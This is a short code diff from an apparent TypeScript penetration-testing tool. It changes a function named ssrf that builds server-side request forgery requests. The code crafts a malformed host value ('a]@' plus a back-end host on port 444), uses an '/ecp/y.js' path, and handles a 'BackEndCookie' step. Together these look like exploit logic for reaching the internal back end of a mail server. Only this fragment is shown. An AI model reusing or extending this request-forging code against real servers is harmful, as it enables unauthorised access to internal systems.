@@ -1055,7 +1055,7 @@ function ssrf(
 ): string {
   const stem = how.stem ?? text(step, 'stem', '/ecp/y.js')
   const outside = how.host !== undefined
-  const host = how.host ?? `a]@${pen.host}.${pen.domain}:444`
+  const host = how.host ?? `a]@${pen.backEnd}.${pen.domain}:444`
   const cookie = step.form === 'BackEndCookie'
   const [path, query] = how.path.replace(/#$/, '').split('?') as [string, string | undefined]
   const success = how.status >= 200 && how.status < 300
